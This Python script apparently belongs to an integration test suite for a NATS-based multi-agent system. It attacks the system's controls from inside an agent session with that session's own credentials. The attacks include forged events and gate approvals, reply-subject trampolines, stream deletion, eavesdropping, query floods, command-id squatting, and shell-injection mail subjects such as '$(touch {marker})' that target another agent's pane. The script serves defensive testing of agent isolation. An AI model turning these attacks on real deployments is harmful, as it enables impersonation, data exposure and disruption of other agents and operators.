"""Run inside a polecat's tmux pane by its agent command, with exactly the environment the witness gives the
session: every NATS attack of ../shared/research/redteam-turn4.md that a session made work (the reply-subject
trampolines through JetStream, the direct ones a superuser could make on a laptop, the limits), each tried with
the session's own credentials. It writes what each attempt got (a refusal, an error, nothing) to a JSON report;
whether the town was harmed is judged from outside by the test (tests/integration/test_agent_attacks.py).

Standalone (nats-py and the standard library only): it is copied into containers as it is.

    python nats_pane.py REPORT VICTIM_BEAD VICTIM_ADDRESS MARKER
    python nats_pane.py --squat REPORT    (in the workspace, its work committed, right before `gt done`)

In the mayor agent's pane (``GT_TOWN_AGENT``, logged in as ``agent-mayor``) the same attacks are made with its own
subject (``gt.cmd.<aggregate>.<verb>.agent.mayor``) where a session uses its own; what reads other sessions' records
(``reads``) and the query flood are a session's only (the mayor agent is answered as an operator is).
"""

from __future__ import annotations

import asyncio
import hashlib
import http.client
import json
import os
import subprocess
import sys
import time
import urllib.request
from typing import Any

import nats
from nats.aio.client import Client

MARK = "FORGED-BY-PANE"
"""Carried by every forged payload: the test looks for it in the log and the commands."""
TAKE_ID = "take-victim-id"
"""The command id of the pane's mail that names the victim's bead's id as its own (``take_an_id``)."""


def own_subject(aggregate: str, verb: str) -> str:
    """The pane's own subject for a command: the mayor agent's (``.agent.<name>``) or its session's."""
    agent = os.environ.get("GT_TOWN_AGENT")
    if agent:
        return f"gt.cmd.{aggregate}.{verb}.agent.{agent}"
    rig, polecat = os.environ.get("GT_RIG", "demo"), os.environ.get("GT_POLECAT", "ace")
    return f"gt.cmd.{aggregate}.{verb}.{rig}.{polecat}.{os.environ.get('GT_SESSION', 'demo-1')}"


def targets(victim: str) -> dict[str, tuple[str, bytes]]:
    """What an attacker would want the server to publish, and where: (subject, payload)."""
    forged_event = {
        "id": "ev-forged-1",
        "type": "bead.closed",
        "v": 1,
        "ts": "2026-11-29T00:00:00Z",
        "actor": "mayor",
        "data": {"bead_id": victim, "reason": MARK},
    }
    activity = {"instance": "attacker", "host": "x", "pid": 1, "started": 0, "ttl_s": 99999999, "why": MARK}
    # A gate job's answer, as a gate runner writes it: passed, for whatever candidate the job names.
    gate_answer = {
        **forged_event,
        "id": "ev-forged-gate",
        "type": "gate.finished",
        "actor": "runner",
        "data": {"job_id": "g-forged", "runner": "runner-1", "attempt": 1, "passed": True, "error": MARK},
    }
    return {
        "forge_event": (f"gt.evt.bead.{victim}", json.dumps(forged_event).encode()),
        "forge_gate_answer": ("gt.evt.gate.g-forged", json.dumps(gate_answer).encode()),
        "close_as_refinery": (
            "gt.cmd.bead.close.svc.refinery",
            json.dumps({"id": victim, "reason": MARK, "cmd_id": "forged-close"}).encode(),
        ),
        "unsling_as_deacon": (
            "gt.cmd.bead.unsling.svc.deacon",
            json.dumps({"id": victim, "cmd_id": "forged-unsling"}).encode(),
        ),
        "close_as_operator": (
            "gt.cmd.bead.close",
            json.dumps({"id": victim, "reason": MARK, "cmd_id": "forged-close-plain"}).encode(),
        ),
        "mayor_activity": ("$KV.GT_ACTIVE.mayor", json.dumps(activity).encode()),
        "purge_heartbeats": ("$JS.API.STREAM.PURGE.KV_GT_HEARTBEATS", b"{}"),
        "delete_log": ("$JS.API.STREAM.DELETE.GT_EVT", b"{}"),
        "delete_commands": ("$JS.API.STREAM.DELETE.GT_CMD", b"{}"),
        # Another session's: its heartbeat key and its command subject (the session's imports name every
        # session's; its permissions only its own).
        "cross_session_beat": ("$KV.GT_HEARTBEATS.victim-1", json.dumps({"note": MARK}).encode()),
        "cross_session_command": (
            f"gt.cmd.mail.send.{os.environ.get('GT_RIG', 'demo')}.victim.victim-1",
            json.dumps({"to": "operator", "subject": MARK, "body": MARK, "cmd_id": "forged-cross"}).encode(),
        ),
        # A gate only an operator (or the deacon's CI check) opens: approved from the session's own subject (no such
        # verb in its permissions), or opened as the deacon.
        "approve_gate": (
            own_subject("gate", "approve"),
            json.dumps({"bead": victim, "step": "gated", "note": MARK, "cmd_id": "forged-gate-approve"}).encode(),
        ),
        "open_gate_as_deacon": (
            "gt.cmd.gate.open.svc.deacon",
            json.dumps({"bead": victim, "step": "gated", "output": MARK, "cmd_id": "forged-gate-open"}).encode(),
        ),
        # A crew member's workspace (the operator's) removed, or a bead hooked to it: neither verb is an agent's.
        "remove_crew": (
            "gt.cmd.crew.remove",
            json.dumps(
                {"rig": os.environ.get("GT_RIG", "demo"), "name": "ann", "cmd_id": "forged-crew-remove"}
            ).encode(),
        ),
        "hook_to_crew": (
            own_subject("crew", "hook"),
            json.dumps(
                {"rig": os.environ.get("GT_RIG", "demo"), "name": "ann", "bead": victim, "cmd_id": "forged-crew-hook"}
            ).encode(),
        ),
        "read_activity_keys": (
            "$JS.API.CONSUMER.CREATE.KV_GT_ACTIVE",
            b"",  # filled in with a push consumer to the session's own inbox
        ),
    }


class Attacker:
    def __init__(self, nc: Client, session: str, inbox: str) -> None:
        self.nc = nc
        self.session = session
        self.inbox = inbox
        self.report: dict[str, Any] = {"session": session, "attempts": []}
        self.errors: list[str] = []

    def note(self, name: str, how: str, result: str) -> None:
        self.report["attempts"].append({"attack": name, "how": how, "result": result[:300]})

    async def quietly(
        self, name: str, how: str, coro: Any, timeout: float = 2.0, *, refused_on: str | None = None
    ) -> Any:
        """Try ``coro``; note what came of it. ``refused_on``: a request to that subject, given up as soon as the
        server refuses its publish (an -ERR naming it), not after ``timeout``: nothing will answer it."""
        before = len(self.errors)
        attempt = asyncio.ensure_future(coro)
        try:
            if refused_on is None:
                got = await asyncio.wait_for(attempt, timeout)
            else:
                # nats-py lowercases the server's -ERR text, the subject in it too.
                got = await self._unless_refused(attempt, before, f'"{refused_on.lower()}"', timeout)
        except Exception as exc:
            self.note(name, how, f"error: {exc!r}")
            return None
        # A refusal reaches the client asynchronously (an -ERR, to the error callback): the attack's own pause for
        # it, part of what is tried, not a wait for the town.
        await asyncio.sleep(0.05)
        refused = self.errors[before:]
        self.note(name, how, f"refused: {refused}" if refused else f"answered: {got!r}")
        return got

    async def _unless_refused(self, attempt: asyncio.Future[Any], before: int, named: str, timeout: float) -> Any:
        deadline = time.monotonic() + timeout
        try:
            while not attempt.done():
                if any(named in error.lower() for error in self.errors[before:]):
                    raise PermissionError(f"refused: {self.errors[before:]}")
                if time.monotonic() > deadline:
                    raise TimeoutError(f"no answer in {timeout} s")
                await asyncio.wait({attempt}, timeout=0.02)
            return attempt.result()
        finally:
            attempt.cancel()

    async def trampolines(self, victim: str) -> None:
        """The reply-subject injections: an allowed request whose answer the server publishes, the reply set to
        a subject the session may not publish to."""
        beat = f"$KV.GT_HEARTBEATS.{self.session}"
        direct_get_own = f"$JS.API.DIRECT.GET.KV_GT_HEARTBEATS.{beat}"
        for name, (subject, payload) in targets(victim).items():
            if name == "read_activity_keys":
                payload = json.dumps(
                    {
                        "stream_name": "KV_GT_ACTIVE",
                        "config": {"deliver_subject": f"{self.inbox}.leak", "ack_policy": "none"},
                    }
                ).encode()
            # 1. its own heartbeat key holds the payload; a direct get of it answers to the target
            await self.quietly(name, "own key = payload", self.nc.request(beat, payload))
            await self.quietly(
                name, "direct get of own key, reply = target", self._publish(direct_get_own, b"", subject)
            )
            # 2. the same through a message get naming the key in its body
            body = json.dumps({"last_by_subj": beat}).encode()
            await self.quietly(
                name,
                "message get, reply = target",
                self._publish("$JS.API.STREAM.MSG.GET.KV_GT_HEARTBEATS", body, subject),
            )
            # 3. its own command (the PubAck answers), a query (the service answers), an outcome's direct get
            own_command = own_subject("mail", "send")
            await self.quietly(name, "own command, reply = target", self._publish(own_command, b"{}", subject))
            await self.quietly(name, "query, reply = target", self._publish("gt.q.mayor.status", b"{}", subject))
            outcome = "$JS.API.DIRECT.GET.GT_EVT.gt.evt.cmd.nothing"
            await self.quietly(name, "outcome direct get, reply = target", self._publish(outcome, b"", subject))
            # 4. a consumer of the log delivering to the target
            consumer = json.dumps(
                {"stream_name": "GT_EVT", "config": {"deliver_subject": subject, "ack_policy": "none"}}
            )
            await self.quietly(
                name,
                "consumer with deliver subject = target",
                self.nc.request("$JS.API.CONSUMER.CREATE.GT_EVT", consumer.encode()),
                refused_on="$JS.API.CONSUMER.CREATE.GT_EVT",
            )
            # 5. straight at it
            await self.quietly(name, "publish to the target", self._publish(subject, payload, ""))
            await self.quietly(name, "request to the target", self.nc.request(subject, payload), refused_on=subject)

    async def _publish(self, subject: str, data: bytes, reply: str) -> str:
        await self.nc.publish(subject, data, reply=reply)
        await self.nc.flush()
        return "sent"

    async def eavesdrop(self) -> None:
        """What a superuser did on a laptop: read everything, take the services' queries."""
        got: list[str] = []

        async def keep(msg: Any) -> None:
            got.append(msg.subject)

        for subject, queue in ((">", None), ("_INBOX.>", None), ("gt.q.mayor.>", "mayor-q"), ("gt.evt.>", None)):
            await self.quietly(
                "eavesdrop",
                f"subscribe {subject} {queue or ''}",
                self.nc.subscribe(subject, queue=queue or "", cb=keep),
            )
        await asyncio.sleep(1.0)  # a second of listening: whatever the subscriptions caught is the result
        leaked = [s for s in got if not s.startswith(self.inbox)]
        self.report["eavesdropped"] = leaked[:50]

    async def take_an_id(self, victim: str) -> None:
        """Create something under an id that is taken: a command that creates may name its new id (``new_id``,
        chosen by its sender), and the pane names the victim's bead's (a message is a bead). Refused ``conflict``:
        nothing is written over, nothing created (its outcome is read by the test)."""
        own_command = own_subject("mail", "send")
        # Its own command id, told apart from other attacking sessions' (GT_CMD keeps one message per id).
        cmd_id = f"{TAKE_ID}-{self.session}"
        body = {"to": "operator", "subject": MARK, "body": MARK, "new_id": victim, "cmd_id": cmd_id}
        await self.quietly(
            "take_victims_id",
            "mail send under the victim bead's id",
            self.nc.request(own_command, json.dumps(body).encode(), headers={"Nats-Msg-Id": cmd_id}),
        )
        self.report["took_id"] = f"{self.session}~{cmd_id}"

    async def flood(self) -> None:
        """A service's subject, unlimited, from a superuser: 200 creates."""
        for i in range(200):
            await self.nc.publish(
                "gt.cmd.bead.create.svc.mayor", json.dumps({"title": MARK, "cmd_id": f"flood-{i}"}).encode()
            )
        await self.quietly("flood", "200 creates on the mayor's subject", self.nc.flush())

    async def query_flood(self) -> None:
        """The digest query (a hash of a service's whole state) asked once, then every service's digest and the
        mayor's list of everything asked ``FLOOD_QUERIES`` times as fast as the connection takes them (what froze
        the mayor and the witness for a minute), the answers counted by their code in an inbox of its own
        (``query_flood``: sent, and the answers by code; "ok" an answer given)."""
        got = await self.quietly("digest", "gt.q.mayor.digest", self.nc.request("gt.q.mayor.digest", b"{}", timeout=5))
        self.report["digest"] = got.data.decode(errors="replace")[:500] if got is not None else ""
        answers: dict[str, int] = {}

        async def counted(msg: Any) -> None:
            try:
                code = "ok" if json.loads(msg.data).get("ok") else str(json.loads(msg.data).get("code"))
            except ValueError:
                code = "undecodable"
            answers[code] = answers.get(code, 0) + 1

        inbox = f"{self.inbox}.flood"
        sub = await self.nc.subscribe(inbox, cb=counted)
        asked = (
            ("gt.q.mayor.digest", b"{}"),
            ("gt.q.witness.digest", b"{}"),
            ("gt.q.mayor.list", json.dumps({"limit": 0, "include_closed": True}).encode()),
        )
        for i in range(FLOOD_QUERIES):
            subject, body = asked[i % len(asked)]
            await self.nc.publish(subject, body, reply=inbox)
        await self.quietly("query_flood", f"{FLOOD_QUERIES} queries", self.nc.flush(), timeout=30)
        # The answers still on their way: counted until none came for a second (at most 15 s).
        deadline = time.monotonic() + 15
        seen = -1
        while seen != sum(answers.values()) and time.monotonic() < deadline:
            seen = sum(answers.values())
            await asyncio.sleep(1)
        await sub.unsubscribe()
        self.report["query_flood"] = {"sent": FLOOD_QUERIES, "answers": answers}


FLOOD_QUERIES = 30_000
OUTCOME_WILDCARDS = ("gt.evt.cmd.*", "gt.evt.cmd.>", "gt.evt.cmd.*.*", "gt.evt.cmd.*.>")
"""Direct gets of these literal subjects: the server resolves the wildcard to the newest outcome of anyone's."""
MAIL_SUBJECTS = (
    '\\"; touch {marker} #',  # the red team's: ran in the victim's shell when subjects stood in double quotes
    "'; touch {marker}; '",
    "$(touch {marker})",
    "`touch {marker}`",
)
"""Subjects of mail to the victim, whose agent is an interactive shell: its announcement is typed into that pane."""


async def reads(attacker: Attacker, victim: str, victim_address: str, marker: str) -> None:
    """What the red team read of others from a pane, and the mail that ran a command in another session's pane.

    - outcomes by a wildcard direct get (``outcome_wildcards``: the subjects of what came back);
    - the witness's lists of every session (handoff notes, pane tails) and every nudge (what the operator typed
      into other panes), and what ``gt seance`` reads of the victim (its bead's sessions, its own record: their
      pane lines and transcript tails) (``witness_lists``: the answers as they came);
    - the NATS monitoring port on loopback, found among the listening sockets (``monitoring``: the ports that
      answered as this town's server);
    - mail to the victim whose subject would end its quotes (``mail_ids``: the messages sent)."""
    nc = attacker.nc
    read: list[str] = []
    for subject in OUTCOME_WILDCARDS:
        got = await attacker.quietly(
            "outcome_wildcard",
            subject,
            nc.request(f"$JS.API.DIRECT.GET.GT_EVT.{subject}", b"", timeout=2),
            refused_on=f"$JS.API.DIRECT.GET.GT_EVT.{subject}",
        )
        headers = (got.headers or {}) if got is not None else {}
        if got is not None and "Status" not in headers:
            read.append(headers.get("Nats-Subject", "?"))
    attacker.report["outcome_wildcards"] = read
    lists: dict[str, str] = {}
    asked = {
        "sessions": ("sessions", {"all": True}),
        "nudges": ("nudges", {"all": True}),
        "seance_bead": ("sessions", {"bead": victim.rsplit("-", 1)[0], "all": True}),
        "seance_session": ("session", {"id": victim}),
    }
    for name, (what, body) in asked.items():
        got = await attacker.quietly(
            "witness_list",
            name,
            nc.request(f"gt.q.witness.{what}", json.dumps(body).encode(), timeout=5),
            refused_on=f"gt.q.witness.{what}",
        )
        lists[name] = got.data.decode(errors="replace")[:20000] if got is not None else ""
    attacker.report["witness_lists"] = lists
    nats_port = nc.connected_url.port if nc.connected_url is not None else None
    attacker.report["monitoring"] = await asyncio.to_thread(monitoring_ports, nats_port)
    sent: list[str] = []
    if victim_address != "-":
        own_command = own_subject("mail", "send")
        for i, template in enumerate(MAIL_SUBJECTS):
            body = {"to": victim_address, "subject": template.format(marker=marker), "body": "hi", "cmd_id": f"m{i}"}
            await attacker.quietly("mail_injection", template, nc.publish(own_command, json.dumps(body).encode()))
            sent.append(f"m{i}")
        await nc.flush()
    attacker.report["mail_ids"] = sent


def monitoring_ports(nats_port: int | None) -> list[int]:
    """Every TCP port listening on this machine's loopback or on all addresses that answers ``/varz`` as the
    server of ``nats_port`` (what `ss -ltn` and curl found for the red team)."""
    ports: set[int] = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as file:
                rows = file.read().splitlines()[1:]
        except OSError:
            continue
        for row in rows:
            fields = row.split()
            if len(fields) > 3 and fields[3] == "0A":  # LISTEN
                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    found = []
    for port in sorted(ports):
        try:
            with urllib.request.urlopen(f"http://127.0.0.1:{port}/varz", timeout=0.5) as answer:
                varz = json.loads(answer.read(1_000_000))
        except (OSError, ValueError, http.client.HTTPException):
            continue  # not answering, or not HTTP, or not JSON: not a monitoring port
        if isinstance(varz, dict) and varz.get("port") == nats_port:
            found.append(port)
    return found


async def limits(url: list[str], login: dict[str, Any], session: str) -> dict[str, Any]:
    """A 3.9 MB message and 5,000 subscriptions, each on a connection of its own."""
    out: dict[str, Any] = {}
    errors: list[str] = []

    async def err(exc: Exception) -> None:
        errors.append(repr(exc))

    nc = await nats.connect(url, error_cb=err, max_reconnect_attempts=0, **login)
    subject = own_subject("mail", "send")
    try:
        await nc.publish(subject, json.dumps({"body": "x" * 3_900_000, "cmd_id": "huge-1"}).encode())
        await nc.flush(timeout=3)
        # The server's refusal arrives asynchronously (an -ERR to the error callback, or the connection cut): the
        # attack's own pause for it, part of what is tried, not a wait for the town.
        await asyncio.sleep(0.5)
    except Exception as exc:
        errors.append(repr(exc))
    out["huge_message"] = {"closed": nc.is_closed, "errors": errors[:3]}
    await nc.close()
    errors = []
    nc = await nats.connect(url, error_cb=err, max_reconnect_attempts=0, **login)
    made = 0
    try:
        for i in range(5000):
            await nc.subscribe(f"{login['inbox_prefix'].decode()}.many.{i}")
            made += 1
            if i % 200 == 0:
                await nc.flush(timeout=3)
        await nc.flush(timeout=3)
        await asyncio.sleep(0.5)  # likewise: the subscription limit's -ERR arrives asynchronously
    except Exception as exc:
        errors.append(repr(exc))
    out["subscriptions"] = {"made": made, "connected": nc.is_connected, "errors": errors[:3]}
    await nc.close()
    return out


def login_from_env() -> dict[str, Any]:
    login: dict[str, Any] = {}
    user = os.environ.get("NATS_USER")
    if user:
        login["user"] = user
        password = os.environ.get("NATS_PASSWORD")
        if not password and os.environ.get("NATS_PASSWORD_FILE"):
            with open(os.environ["NATS_PASSWORD_FILE"]) as file:
                password = file.readline().strip()
        login["password"] = password
    prefix = os.environ.get("NATS_INBOX_PREFIX")
    login["inbox_prefix"] = (prefix or "_INBOX").encode()
    return login


def merge_request_of(rig: str, bead: str, head: str) -> str:
    """The merge request id the refinery gives this bead's commit (services/refinery/decide.py ``mr_id_for``)."""
    return "mr-" + hashlib.blake2b(f"{rig}:{bead}:{head}".encode()).hexdigest()[:12]


async def squat(report_path: str) -> None:
    """Take first, on the session's own subject, the command id the refinery will close this bead under once its
    merge request merges (``close-<mr>``, predictable from the committed head): GT_CMD keeps one message per id for
    two minutes whoever sent it, and an outcome is one per id, so a town that let a session's id stand for the
    refinery's would drop the close (or take the session's command for it) and the merged bead would stay open."""
    head = subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True, text=True, check=True).stdout.strip()
    rig, bead, session = os.environ["GT_RIG"], os.environ["GT_BEAD"], os.environ["GT_SESSION"]
    taken = f"close-{merge_request_of(rig, bead, head)}"
    login = login_from_env()
    nc = await nats.connect(os.environ["NATS_URL"].split(","), max_reconnect_attempts=-1, **login)
    try:
        subject = f"gt.cmd.mail.send.{rig}.{os.environ['GT_POLECAT']}.{session}"
        body = {"to": "operator", "subject": "squatting", "body": "an id that is not mine", "cmd_id": taken}
        await nc.publish(subject, json.dumps(body).encode(), headers={"Nats-Msg-Id": taken})
        await nc.flush()
    finally:
        await nc.close()
    with open(report_path, "w") as file:
        json.dump({"session": session, "taken": taken, "head": head}, file)


async def main(report_path: str, victim: str, victim_address: str, marker: str) -> None:
    url = os.environ["NATS_URL"].split(",")
    login = login_from_env()
    town_agent = bool(os.environ.get("GT_TOWN_AGENT"))
    session = os.environ["NATS_USER"] if town_agent else os.environ["GT_SESSION"]
    started = time.monotonic()
    attacker: Attacker

    async def err(exc: Exception) -> None:
        attacker.errors.append(repr(exc))

    nc = await nats.connect(url, error_cb=err, max_reconnect_attempts=-1, **login)
    attacker = Attacker(nc, session, login["inbox_prefix"].decode())
    try:
        await attacker.trampolines(victim)
        await attacker.eavesdrop()
        await attacker.take_an_id(victim)
        if not town_agent:
            await reads(attacker, victim, victim_address, marker)
        await attacker.flood()
        if not town_agent:
            await attacker.query_flood()
    finally:
        await nc.close()
    attacker.report["limits"] = await limits(url, login, session)
    attacker.report["uid"] = os.getuid()
    attacker.report["errors"] = attacker.errors[-20:]
    attacker.report["seconds"] = round(time.monotonic() - started, 1)
    tmp = report_path + ".tmp"
    with open(tmp, "w") as file:
        json.dump(attacker.report, file, indent=1)
    os.replace(tmp, report_path)


if __name__ == "__main__":
    if sys.argv[1] == "--squat":
        asyncio.run(squat(sys.argv[2]))
    else:
        asyncio.run(main(*sys.argv[1:5]))
